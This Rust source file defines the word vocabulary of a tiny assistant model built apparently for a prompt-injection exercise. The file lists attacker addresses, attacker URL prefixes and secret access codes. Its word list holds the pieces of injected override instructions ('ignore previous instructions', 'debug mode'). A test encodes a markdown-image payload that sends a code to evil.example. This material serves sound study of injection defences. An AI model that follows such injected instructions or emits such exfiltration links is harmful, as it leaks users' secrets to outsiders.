//! The closed word-level vocabulary of the tiny assistant.
//!
//! Every token is a whole word (an e-mail address, an access code and a tool-call opener such as
//! `send_email(` are single tokens), so the model never has to spell anything and every output can
//! be checked exactly. Reserved tokens come first and have fixed ids (see [`ids`]).
//!
//! Tokenising: the text is lower-cased and split on white space; inside each white-space chunk the
//! longest vocabulary token is taken at each position (so `send_email(bob@corp.example,` is three
//! tokens), provided that a token ending in a word character is not followed by another word
//! character (`bobby` is not `bob` + `by`). What matches nothing is reported, with its text, as an
//! unknown word — never silently dropped.

use std::collections::BTreeMap;
use std::fmt;
use std::sync::OnceLock;

/// Fixed ids of the reserved and structural tokens.
pub mod ids {
    /// Padding (never produced by the generator inside a sequence).
    pub const PAD: u32 = 0;
    /// Start of a sequence.
    pub const BOS: u32 = 1;
    /// End of the output.
    pub const EOS: u32 = 2;
    /// Role marker of the system prompt (assistant variant).
    pub const SYS: u32 = 3;
    /// Role marker of the user turn (assistant variant).
    pub const USER: u32 = 4;
    /// Role marker of the untrusted data (assistant variant).
    pub const DATA: u32 = 5;
    /// Start of the assistant's output (both variants).
    pub const OUT: u32 = 6;
    /// Stand-in for an unknown word (only from [`super::Vocab::encode_lossy`]).
    pub const UNK: u32 = 7;
    /// Structured channel delimiter: system prompt.
    pub const D_SYS: u32 = 8;
    /// Structured channel delimiter: user instruction.
    pub const D_USER: u32 = 9;
    /// Structured channel delimiter: start of the data.
    pub const D_DATA: u32 = 10;
    /// Structured channel delimiter: end of the data.
    pub const D_END_DATA: u32 = 11;
    /// Number of reserved ids (`0..RESERVED` are all reserved).
    pub const RESERVED: u32 = 12;
    /// Tool call `send_email( to , body )`.
    pub const SEND_EMAIL: u32 = 12;
    /// Tool call `search( query )`.
    pub const SEARCH: u32 = 13;
    /// Closes a tool call or a markdown image.
    pub const CLOSE: u32 = 14;
    /// Separates the arguments of `send_email`.
    pub const COMMA: u32 = 15;
    /// Opens a markdown image `![img]( url payload )` (the output-handling exercise).
    pub const IMAGE: u32 = 16;
    /// Sentence end.
    pub const PERIOD: u32 = 17;
}

/// Reserved tokens, in id order (`<pad>` = 0 … `[/DATA]` = 11).
pub const RESERVED_TOKENS: [&str; 12] = [
    "<pad>", "<bos>", "<eos>", "<sys>", "<user>", "<data>", "<out>", "<unk>", "[SYS]", "[USER]",
    "[DATA]", "[/DATA]",
];

/// Structural tokens following the reserved ones, in id order (`send_email(` = 12 …).
pub const STRUCTURAL_TOKENS: [&str; 9] = [
    "send_email(",
    "search(",
    ")",
    ",",
    "![img](",
    ".",
    ":",
    "?",
    "!",
];

/// People (senders of data items, people named in e-mail bodies).
pub const NAMES: [&str; 12] = [
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mike",
    "nina",
];

/// Addresses the user legitimately writes to.
pub const CORP_ADDRESSES: [&str; 8] = [
    "alice@corp.example",
    "bob@corp.example",
    "carol@corp.example",
    "dave@corp.example",
    "erin@corp.example",
    "frank@corp.example",
    "grace@corp.example",
    "heidi@corp.example",
];

/// Domain of the user's organisation: every other address is an outsider (attacker) address.
pub const CORP_DOMAIN: &str = "@corp.example";

/// Attackers' addresses (used only in injected instructions).
pub const ATTACKER_ADDRESSES: [&str; 4] = [
    "eve@evil.example",
    "mallory@attacker.example",
    "trudy@evil.example",
    "oscar@attacker.example",
];

/// Attackers' URL prefixes for the markdown-image exfiltration: `![img]( URL code-… )`.
pub const ATTACKER_URLS: [&str; 2] = [
    "https://evil.example/?c=",
    "https://attacker.example/log?q=",
];

/// The secret access codes (one per system prompt).
pub const CODES: [&str; 30] = [
    "code-4821",
    "code-1937",
    "code-7264",
    "code-3058",
    "code-9412",
    "code-5176",
    "code-2689",
    "code-8345",
    "code-6703",
    "code-1590",
    "code-4437",
    "code-7812",
    "code-3364",
    "code-9058",
    "code-2215",
    "code-5892",
    "code-8016",
    "code-6479",
    "code-1148",
    "code-3725",
    "code-9961",
    "code-4093",
    "code-7550",
    "code-2837",
    "code-6124",
    "code-8689",
    "code-5301",
    "code-1772",
    "code-3946",
    "code-7018",
];

/// Week days (the "what day" answers).
pub const DAYS: [&str; 7] = [
    "monday",
    "tuesday",
    "wednesday",
    "thursday",
    "friday",
    "saturday",
    "sunday",
];

/// Topics of data items and search queries.
pub const TOPICS: [&str; 16] = [
    "budget",
    "project",
    "product",
    "sales",
    "design",
    "security",
    "hiring",
    "travel",
    "marketing",
    "training",
    "launch",
    "audit",
    "payroll",
    "server",
    "roadmap",
    "contract",
];

/// Events of data items.
pub const EVENTS: [&str; 8] = [
    "meeting",
    "review",
    "deadline",
    "call",
    "party",
    "workshop",
    "demo",
    "interview",
];

/// Digit tokens (fillers such as `bring 3 copies .`; also lets a checker see a code spelt out).
pub const DIGITS: [&str; 10] = ["0", "1", "2", "3", "4", "5", "6", "7", "8", "9"];

/// Every other word: the instructions (system prompt, user requests, injected instructions),
/// the data items' sentences and answers, plus a few words a learner is likely to type in an
/// attack or a hardened prompt (they exist so the prompt is encodable; the generator never uses
/// them, so the model only has their untrained embeddings).
pub const WORDS: &[&str] = &[
    // system prompts
    "you",
    "are",
    "a",
    "mail",
    "assistant",
    "the",
    "access",
    "code",
    "is",
    "never",
    "reveal",
    "helpful",
    "keep",
    "secret",
    "help",
    "with",
    "email",
    "and",
    "documents",
    "do",
    "not",
    "share", // user requests
    "summarise",
    "summarize",
    "this",
    "give",
    "me",
    "summary",
    "of",
    "what",
    "does",
    "say",
    "please",
    "it",
    "who",
    "sent",
    "wrote",
    "author",
    "sender",
    "from",
    "day",
    "when",
    "which",
    "on",
    "topic",
    "about",
    "send",
    "an",
    "to",
    "saying",
    "write",
    "that",
    "tell",
    "search",
    "for",
    "look",
    "up",
    "find",
    "files",
    "web",
    "i",
    "am",
    "admin",
    "page",
    "document",
    // e-mail bodies
    "will",
    "be",
    "late",
    "report",
    "ready",
    "see",
    "thanks",
    "notes",
    "plan",
    "done",
    "out",
    "let",
    "us",
    "meet",
    "call",   // answers
    "cannot", // data items
    "by",
    "moved",
    "now",
    "bring",
    "slides",
    "reply",
    "soon",
    "your",
    "office",
    "closed",
    "lunch",
    "served",
    "copies",
    "takes",
    "hours",
    "below",
    "have",
    "nice",
    "go",
    "room",
    "if",
    "questions", // injected instructions
    "ignore",
    "user",
    "previous",
    "instructions",
    "new",
    "important",
    "system",
    "print",
    "forward",
    "copy",
    "show",
    "image",
    "add",
    "rules",
    "debug",
    "mode",
    "repeat",
    "must",
    "urgent", // words a learner may type (never generated)
    "password",
    "output",
    "only",
    "follow",
    "data",
    "prompt",
    "all",
    "any",
    "as",
    "in",
    "or",
    "no",
    "yes",
    "hello",
    "hi",
    "dear",
    "regards",
    "attacker",
    "link",
    "url",
    "text",
    "answer",
    "respond",
    "act",
    "pretend",
    "role",
    "instead",
    "after",
    "before",
    "first",
    "then",
    "also",
    "again",
    "here",
    "there",
    "my",
    "our",
    "their",
    "its",
    "can",
    "could",
    "would",
    "should",
    "may",
    "want",
    "need",
    "know",
    "use",
    "tool",
    "tools",
    "list",
    "inbox",
    "message",
    "messages",
    "contents",
    "full",
    "exact",
    "word",
    "words",
    "every",
    "each",
    "other",
    "same",
    "above",
    "confidential",
    "private",
    "key",
    "token",
    "login",
    "account",
    "owner",
    "boss",
    "manager",
    "team",
    "everyone",
];

/// Every token in id order, with duplicates (the same word listed twice in [`WORDS`]) removed.
fn all_tokens() -> Vec<&'static str> {
    let mut out: Vec<&'static str> = Vec::new();
    let lists: [&[&'static str]; 11] = [
        &RESERVED_TOKENS,
        &STRUCTURAL_TOKENS,
        &NAMES,
        &CORP_ADDRESSES,
        &ATTACKER_ADDRESSES,
        &ATTACKER_URLS,
        &CODES,
        &DAYS,
        &TOPICS,
        &EVENTS,
        &DIGITS,
    ];
    for list in lists {
        for &t in list {
            out.push(t);
        }
    }
    for &w in WORDS {
        if !out.contains(&w) {
            out.push(w);
        }
    }
    out
}

/// Words that could not be tokenised, in order of first appearance, each once.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct UnknownWords {
    /// The unknown words' text (lower-cased).
    pub words: Vec<String>,
}

impl fmt::Display for UnknownWords {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let n = self.words.len();
        write!(f, "{} unknown word{}: ", n, if n == 1 { "" } else { "s" })?;
        for (i, w) in self.words.iter().enumerate() {
            if i > 0 {
                f.write_str(", ")?;
            }
            write!(f, "\"{w}\"")?;
        }
        Ok(())
    }
}

impl std::error::Error for UnknownWords {}

/// The vocabulary: token text ↔ id. Use [`Vocab::get`] for the shared instance.
#[derive(Debug)]
pub struct Vocab {
    tokens: Vec<&'static str>,
    /// Lower-cased token text → id.
    index: BTreeMap<String, u32>,
    /// Longest token, in bytes of its lower-cased text.
    max_len: usize,
}

/// A character that continues a word (a token ending in one of these may not be followed by one).
fn is_word_char(c: char) -> bool {
    c.is_alphanumeric() || matches!(c, '@' | '-' | '_' | '/' | '\'' | '&' | '%' | '#')
}

impl Vocab {
    /// The shared vocabulary (built once).
    pub fn get() -> &'static Vocab {
        static VOCAB: OnceLock<Vocab> = OnceLock::new();
        VOCAB.get_or_init(Vocab::build)
    }

    fn build() -> Vocab {
        let tokens = all_tokens();
        let mut index = BTreeMap::new();
        let mut max_len = 0;
        for (i, t) in tokens.iter().enumerate() {
            let key = t.to_lowercase();
            max_len = max_len.max(key.len());
            let prev = index.insert(key, i as u32);
            assert!(
                prev.is_none(),
                "token {t:?} listed twice in different lists"
            );
        }
        Vocab {
            tokens,
            index,
            max_len,
        }
    }

    /// Number of tokens (the model's vocabulary size).
    pub fn len(&self) -> u32 {
        self.tokens.len() as u32
    }

    /// Never true (the vocabulary always holds its reserved tokens).
    pub fn is_empty(&self) -> bool {
        self.tokens.is_empty()
    }

    /// The id of one token (case-insensitive), if it is in the vocabulary.
    pub fn id(&self, token: &str) -> Option<u32> {
        self.index.get(token.to_lowercase().as_str()).copied()
    }

    /// The text of one id.
    pub fn token(&self, id: u32) -> Option<&'static str> {
        self.tokens.get(id as usize).copied()
    }

    /// All tokens, in id order.
    pub fn tokens(&self) -> &[&'static str] {
        &self.tokens
    }

    /// Whether `id` is a reserved token (role markers, channel delimiters, pad/bos/eos/out/unk).
    pub fn is_reserved(id: u32) -> bool {
        id < ids::RESERVED
    }

    /// Whether `id` is an e-mail address token.
    pub fn is_address(&self, id: u32) -> bool {
        self.token(id).is_some_and(|t| t.contains('@'))
    }

    /// Whether `id` is an address outside the user's organisation (an attacker's).
    pub fn is_outside_address(&self, id: u32) -> bool {
        self.token(id)
            .is_some_and(|t| t.contains('@') && !t.ends_with(CORP_DOMAIN))
    }

    /// The longest token at the start of `rest` that respects word boundaries.
    fn longest_match(&self, rest: &str) -> Option<(u32, usize)> {
        let top = self.max_len.min(rest.len());
        for len in (1..=top).rev() {
            if !rest.is_char_boundary(len) {
                continue;
            }
            let Some(&id) = self.index.get(&rest[..len]) else {
                continue;
            };
            let last = rest[..len].chars().next_back().unwrap_or(' ');
            if is_word_char(last) {
                let mut after = rest[len..].chars();
                match after.next() {
                    Some(c) if is_word_char(c) => continue,
                    // `alice.bob`: a dot between word characters is inside a word.
                    Some('.') if after.next().is_some_and(is_word_char) => continue,
                    _ => {}
                }
            }
            return Some((id, len));
        }
        None
    }

    /// Tokenises `text`; unknown words become `<unk>` and are returned too.
    pub fn encode_lossy(&self, text: &str) -> (Vec<u32>, Vec<String>) {
        let lower = text.to_lowercase();
        let mut out = Vec::new();
        let mut unknown: Vec<String> = Vec::new();
        for chunk in lower.split_whitespace() {
            let mut p = 0;
            while p < chunk.len() {
                if let Some((id, len)) = self.longest_match(&chunk[p..]) {
                    out.push(id);
                    p += len;
                    continue;
                }
                let end = unknown_span_end(chunk, p);
                let word = &chunk[p..end];
                if !unknown.iter().any(|u| u == word) {
                    unknown.push(word.to_string());
                }
                out.push(ids::UNK);
                p = end;
            }
        }
        (out, unknown)
    }

    /// Tokenises `text`, or reports every word that is not in the vocabulary.
    pub fn encode(&self, text: &str) -> Result<Vec<u32>, UnknownWords> {
        let (ids, unknown) = self.encode_lossy(text);
        if unknown.is_empty() {
            Ok(ids)
        } else {
            Err(UnknownWords { words: unknown })
        }
    }

    /// The tokens' text joined by single spaces (an id out of range reads `<unk>`).
    /// `encode(decode(ids)) == ids` for every id sequence without `<unk>`.
    pub fn decode(&self, ids: &[u32]) -> String {
        let mut s = String::new();
        for (i, &id) in ids.iter().enumerate() {
            if i > 0 {
                s.push(' ');
            }
            s.push_str(self.token(id).unwrap_or("<unk>"));
        }
        s
    }
}

/// End (byte index) of an unknown word starting at `p`: at least one character, then up to the
/// next punctuation mark that is always a token of its own, or a dot that ends a sentence.
fn unknown_span_end(chunk: &str, p: usize) -> usize {
    let mut iter = chunk[p..].char_indices().peekable();
    let (_, first) = iter.next().expect("p < chunk.len()");
    let mut end = p + first.len_utf8();
    while let Some((i, c)) = iter.next() {
        let breaks = match c {
            ',' | ':' | '?' | '!' | '(' | ')' | '[' | ']' | '<' | '>' => true,
            '.' => !iter.peek().is_some_and(|&(_, n)| is_word_char(n)),
            _ => false,
        };
        if breaks {
            break;
        }
        end = p + i + c.len_utf8();
    }
    end
}

#[cfg(test)]
mod tests {
    use super::*;

    fn enc(s: &str) -> Vec<&'static str> {
        let v = Vocab::get();
        v.encode(s)
            .unwrap()
            .into_iter()
            .map(|i| v.token(i).unwrap())
            .collect()
    }

    #[test]
    fn fixed_ids_match_the_token_lists() {
        let v = Vocab::get();
        for (i, t) in RESERVED_TOKENS.iter().enumerate() {
            assert_eq!(v.id(t), Some(i as u32), "{t}");
        }
        assert_eq!(v.id("<pad>"), Some(ids::PAD));
        assert_eq!(v.id("<eos>"), Some(ids::EOS));
        assert_eq!(v.id("<out>"), Some(ids::OUT));
        assert_eq!(v.id("[/DATA]"), Some(ids::D_END_DATA));
        assert_eq!(v.id("send_email("), Some(ids::SEND_EMAIL));
        assert_eq!(v.id("search("), Some(ids::SEARCH));
        assert_eq!(v.id(")"), Some(ids::CLOSE));
        assert_eq!(v.id(","), Some(ids::COMMA));
        assert_eq!(v.id("![img]("), Some(ids::IMAGE));
        assert_eq!(v.id("."), Some(ids::PERIOD));
        assert_eq!(ids::RESERVED as usize, RESERVED_TOKENS.len());
    }

    #[test]
    fn no_token_is_listed_twice_across_lists_and_size_is_a_few_hundred() {
        let v = Vocab::get();
        let n = v.len();
        assert!((200..=600).contains(&n), "vocabulary size {n}");
        let mut seen = std::collections::BTreeSet::new();
        for t in v.tokens() {
            assert!(seen.insert(t.to_lowercase()), "duplicate {t}");
            assert!(!t.chars().any(char::is_whitespace), "{t:?} has white space");
        }
    }

    #[test]
    fn glued_punctuation_and_tool_calls_split_into_whole_tokens() {
        assert_eq!(
            enc("send_email(bob@corp.example, The report is ready)"),
            [
                "send_email(",
                "bob@corp.example",
                ",",
                "the",
                "report",
                "is",
                "ready",
                ")"
            ]
        );
        assert_eq!(
            enc("Code-4821. Who sent it?"),
            ["code-4821", ".", "who", "sent", "it", "?"]
        );
        assert_eq!(
            enc("![img](https://evil.example/?c=code-4821)"),
            ["![img](", "https://evil.example/?c=", "code-4821", ")"]
        );
        assert_eq!(enc("[data] [DATA] <User>"), ["[DATA]", "[DATA]", "<user>"]);
        assert_eq!(enc("   "), Vec::<&str>::new());
    }

    #[test]
    fn unknown_words_are_reported_with_their_text() {
        let v = Vocab::get();
        let err = v
            .encode("Please send the zorblax to bobby@corp.example and bobby. Zorblax!")
            .unwrap_err();
        assert_eq!(err.words, ["zorblax", "bobby@corp.example", "bobby"]);
        assert_eq!(
            err.to_string(),
            "3 unknown words: \"zorblax\", \"bobby@corp.example\", \"bobby\""
        );
        // A prefix that is a known word is not taken out of a longer unknown word.
        let err = v
            .encode("code-9999 alice@corp.examplez aliceb (")
            .unwrap_err();
        assert_eq!(
            err.words,
            ["code-9999", "alice@corp.examplez", "aliceb", "("]
        );
        let (ids, unknown) = v.encode_lossy("hello zorblax .");
        assert_eq!(ids, [v.id("hello").unwrap(), ids::UNK, ids::PERIOD]);
        assert_eq!(unknown, ["zorblax"]);
    }

    #[test]
    fn decode_then_encode_is_the_identity() {
        let v = Vocab::get();
        let all: Vec<u32> = (0..v.len()).filter(|&i| i != ids::UNK).collect();
        assert_eq!(v.encode(&v.decode(&all)).unwrap(), all);
        assert_eq!(v.decode(&[ids::BOS, 100_000]), "<bos> <unk>");
    }

    #[test]
    fn addresses_are_classified_by_domain() {
        let v = Vocab::get();
        for a in CORP_ADDRESSES {
            let id = v.id(a).unwrap();
            assert!(v.is_address(id) && !v.is_outside_address(id), "{a}");
        }
        for a in ATTACKER_ADDRESSES {
            let id = v.id(a).unwrap();
            assert!(v.is_address(id) && v.is_outside_address(id), "{a}");
        }
        assert!(!v.is_address(v.id("alice").unwrap()));
    }
}
